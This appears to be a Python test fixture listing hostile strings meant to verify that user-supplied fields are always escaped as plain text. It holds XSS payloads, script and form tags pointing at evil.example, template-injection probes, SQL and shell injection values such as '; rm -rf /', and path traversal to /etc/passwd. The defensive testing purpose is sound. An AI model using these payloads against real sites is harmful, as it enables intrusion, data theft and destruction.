"""Texts that a report, a title, an outlet, an address or a name may hold, and that must only ever
be text.
"""

SCRIPT = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x20type=\"text/javascript\">x</script>", "<script/src=data:,x>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<math><mtext></mtext></math>",
    "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><input name=a>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet "
                                                                "href=//evil.example/x.css>",
    "<style>*{display:none}</style>", "</style><script>alert(1)</script>", "<template><script>x</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>",
    "<marquee>x</marquee>", "<plaintext>", "<xmp>", "<textarea>", "</textarea><script>alert(1)</script>",
    "<title>", "</title><script>alert(1)</script>", "<select>", "</select><img src=x "
                                                                "onerror=alert(1)>",
    "<table><tr><td>", "</td></tr></table>", "</main></body></html>", "</article></p></div>", "</h1><h1>Fake</h1>",
    "<bdi>", "</bdi></bdi></bdi>", "<p>", "</p>", "<br>", "<hr>",
]  # fmt: skip
QUOTES = [
    '"', "'", '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", '" autofocus onfocus=alert(1) x="', "`", "`${alert(1)}`", '\\"', "\\'", '"/>',
    "&quot;", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;", "&", "&&", "&;", "&#0;", "&#x0;",
    "%3Cscript%3E", "%22%3E%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:x",
    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example", "///evil",
    "http:evil.example", "http://", "https://[", "http://user:pass@evil.example@host/", "blob:x", "about:blank",
    "mailto:a@b", "tel:1", "\\\\evil\\x", "http://a/\"><script>alert(1)</script>", "http://a/' onclick='alert(1)",
    "ftp://a/", "https://a.example/\u202egnp.exe", "view-source:http://a", "intent://a", "x" * 3000,
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% for x in range(9) %}x{% endfor "
                                                             "%}", "{% raw %}",
    "{% endraw %}", "{# note #}", "{% include '/etc/passwd' %}", "{% extends 'x' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{", "}}", "{%", "%}", "{{ visit.form }}", "%(name)s", "%s%s%s%n", "{0}", "{name}", "{0.__class__}", "$(id)",
    "`id`", "; rm -rf /", "' OR 1=1 --", "'; DROP TABLE claim; --", '" OR ""="', "1) UNION SELECT 1", "NEAR(a b)",
    "* OR", '"', "a:b", "^a", "\\", "%", "_", "[", "(", "../../etc/passwd", "..\\..\\x", "/", "//", "?a=b", "#p1", "?",
    "#", "<%- include('/etc/passwd') %>", "[[${7*7}]]", "*{7*7}", "@{//evil.example}",
    "{{constructor.constructor('x')()}}", "#set($x=7*7)$x", "<#assign x=7*7>${x}", "{{=7*7}}",
]  # fmt: skip
CONTROLS = [
    "\x1b[31mred", "\x1b]0;title\x07", "\x9b31m", "a\x00b", "\x00", "\x08\x08\x08", "\x7f", "\x85", "\u2028", "\u2029",
    "\u202eevil\u202c", "\u202dx", "\u2066x", "\u2067x\u2069", "\u2068", "\u200e", "\u200f", "\u061c", "\ufeff",
    "\u200b", "\u200d", "\ufff9a\ufffab\ufffb", "\ufffe", "\uffff", "\ud800", "\udfff", "\ud83d", "\U000e0041",
    "\U0010ffff", "a\rb", "a\nb", "a\r\nb", "\t", "\x0b", "\x0c", "\u0301" * 200, "Z" + "\u0488" * 100,
    "שלום", "مرحبا <b>", "\u202e<script>", "١٢٣", "ﷺ" * 50, "𝕳𝖊𝖑𝖑𝖔", "👩‍👩‍👧‍👦" * 20,
]  # fmt: skip
LONG = ["a" * 20_000, "a " * 10_000, "<" * 5_000, "&" * 5_000, "<b>" * 3_000]

TEXTS = [*SCRIPT, *QUOTES, *ADDRESSES, *TEMPLATES, *CONTROLS, *LONG]
